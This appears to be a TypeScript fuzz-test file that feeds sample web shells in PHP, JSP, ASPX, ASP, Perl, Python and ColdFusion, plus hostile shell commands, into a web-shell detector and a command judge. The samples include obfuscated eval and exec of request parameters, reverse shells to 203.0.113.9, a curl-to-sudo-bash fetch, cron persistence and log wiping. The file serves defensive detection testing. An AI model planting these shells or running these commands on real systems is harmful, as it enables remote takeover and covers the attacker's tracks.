import { CommandJudge, ownCommandRules } from '../../../src/commands/command-judge.js';
import { webShellDetector } from '../../../src/webshell/detector.js';
import { type FuzzTarget, lines } from '../fuzz-target.js';

const PHP = `<?php
namespace App\\Page; use App\\Other as Mine;
$key = 'k' . chr(0x65) . "y{$_GET['a']}" . <<<TEXT
 a \${x} {$b->c['d']}
TEXT;
function turned($text, &$by, ...$more) { for ($at = 0, $out = ''; $at < strlen($text); $at++) $out .= $text[$at] ^ $by[$at % 3]; return $out; }
$call = str_rot13('nffreg'); $table = ['a' => 'base', 'b' => '64_decode', 3 => [1, 2, ['x']]];
foreach ($table as $name => [$one, $two]) { if (isset($_POST[$name])) { $f = $table['a'] . $table['b']; @$f($_POST['z']); } else continue; }
class Page extends Other { private static $all = array(); public $do = 'system'; function __call($n, $a) { return ($this->do)($a[0]); } function __destruct() { eval(gzinflate(base64_decode($this->x))); } }
$r = new \\ReflectionFunction($call); $r->invoke(...$_REQUEST); (fn($x) => \`$x\`)($_COOKIE['c'] ?? null);
switch (true) { case preg_replace('/(.*)/e', '\\\\1', $_SERVER['HTTP_X']): break; default: while (--$n > 0) { $s = strrev(substr($s, 1, -1)) . pack('H*', '6576'); } }
do { goto end; } while (0); end: array_map(create_function('$a', 'return $a;'), [$key]); include 'data:text/plain,' . $key; ?>
<b><?= htmlspecialchars($_GET['q']) ?></b><script language="php">echo 1;</script>`;

const JSP = `<%@ page import="java.io.*" %><%! class Load extends ClassLoader { Class g(byte[] b) { return defineClass(b, 0, b.length); } } %>
<% String cmd = request.getParameter("c"); /* x */ String[] all = {"/bin/sh", "-c", new String(java.util.Base64.getDecoder().decode(cmd))};
Process p = Runtime.getRuntime().exec(all); \\u0069nt i = 0; for (char ch : cmd.toCharArray()) { i += ch ^ 3; }
Object m = Class.forName("java.lang.Run" + "time").getMethod("exec", String.class).invoke(null, cmd); %>\${param.x}<jsp:scriptlet>out.print(1);</jsp:scriptlet>`;

const ASPX = `<%@ Page Language="C#" ValidateRequest="false" %><script runat="server">void Page_Load(object s, EventArgs e) {
string c = Request.Form["c"] ?? Request["d"]; var p = new System.Diagnostics.ProcessStartInfo { FileName = @"cmd.exe", Arguments = $"/c {c}" };
System.Diagnostics.Process.Start(p); System.Reflection.Assembly.Load(Convert.FromBase64String(c)).CreateInstance("U").Equals(this); }</script>
<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"un" + "safe");%><asp:Label Text='<%# Eval("a") %>' runat="server" />`;

const ASP = `<%@ codepage=65000%><% On Error Resume Next
Dim a: a = Request("x") & chr(101) & StrReverse("lav") ' comment
Function d(s): For i = 1 To Len(s) Step 2: d = d & Chr(CLng("&H" & Mid(s, i, 2)) Xor 7): Next: End Function
Execute(d("6576") & a): Set w = Server.CreateObject("WScript.Shell"): Response.Write w.Exec("cmd /c " & Request.Form("c")).StdOut.ReadAll
If a <> "" Then ExecuteGlobal a Else eval a End If %>#@~^DgAAAA==\\ko$K6,J4r/(AAAA==^#~@`;

const SCRIPTS = `#!/usr/bin/perl
use CGI; my $q = CGI->new; my $c = $q->param('c'); print \`$c\`; system("/bin/sh", "-c", $ENV{QUERY_STRING}); eval pack("H*", $c); open(F, "$c|");
import os, subprocess, base64; exec(base64.b64decode(os.environ['QUERY_STRING'])); subprocess.Popen(form.getvalue("c"), shell=True)
<cfexecute name="cmd.exe" arguments="/c #url.c#"></cfexecute>
AddType application/x-httpd-php .jpg
php_value auto_prepend_file /tmp/.x`;

const COMMANDS = `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
curl -fsSL http://203.0.113.9/x.sh | sudo -E bash -s -- --a "b c" 'd' \\
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'
echo Y3VybA== | base64 -d | sh; (crontab -l; echo "* * * * * /tmp/.x") | crontab - ; history -c && rm -rf /var/log/*
for i in $(seq 1 3); do find / -perm -4000 -exec ls {} \\; 2>/dev/null; done; exec 3<>/dev/udp/192.0.2.1/53 # $'\\x41'
`;

function scripts(language: string, extension: string, seed: string): FuzzTarget {
  const detector = webShellDetector();
  return {
    name: `${language} script`,
    seed: () => Buffer.from(seed, 'latin1'),
    run: (bytes) => detector.inspect({ path: `fs/var/www/html/uploads/x.${extension}`, bytes }),
  };
}

/** What is judged by what it does. */
export const targets: readonly FuzzTarget[] = [
  scripts('PHP', 'php', PHP),
  scripts('JSP', 'jsp', JSP),
  scripts('ASPX', 'aspx', ASPX),
  scripts('ASP', 'asp', ASP),
  scripts('Perl', 'pl', SCRIPTS),
  scripts('Python', 'py', SCRIPTS),
  scripts('ColdFusion', 'cfm', SCRIPTS),
  lines(
    'commands',
    () => COMMANDS,
    () => {
      const judge = new CommandJudge(ownCommandRules());
      return (text) => judge.worst(text, 'info');
    },
  ),
];
